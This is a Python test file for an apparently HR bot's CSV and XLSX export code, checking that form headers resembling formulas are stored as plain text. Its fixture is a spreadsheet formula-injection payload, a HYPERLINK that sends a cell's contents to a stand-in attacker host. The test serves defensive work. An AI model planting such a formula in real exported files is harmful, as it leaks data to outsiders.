"""Exports: text HR or officers typed never becomes a spreadsheet formula, headers included."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from bot import exports

SECTION = '=HYPERLINK("http://evil.example/?"&A2,"ส่วนที่ 1")'


def test_a_form_section_named_like_a_formula_stays_text_in_the_header(tmp_path: Path) -> None:
    table = exports.Table(name="แบบฟอร์ม 1", headers=["รหัสบุคลากร", SECTION, "+1", "@SUM(A1)"],
                          rows=iter([["S1", "ตอบ", "", ""]]))
    body = b"".join(exports.csv_chunks(table)).decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(body)))
    assert header == ["รหัสบุคลากร", "'" + SECTION, "'+1", "'@SUM(A1)"]
    path = tmp_path / "form.xlsx"
    exports.write_xlsx(exports.Table(name="f", headers=["รหัสบุคลากร", SECTION], rows=iter([])),
                       str(path))
    cell = load_workbook(path)["f"]["B1"]
    assert cell.value == SECTION and cell.data_type == "s"
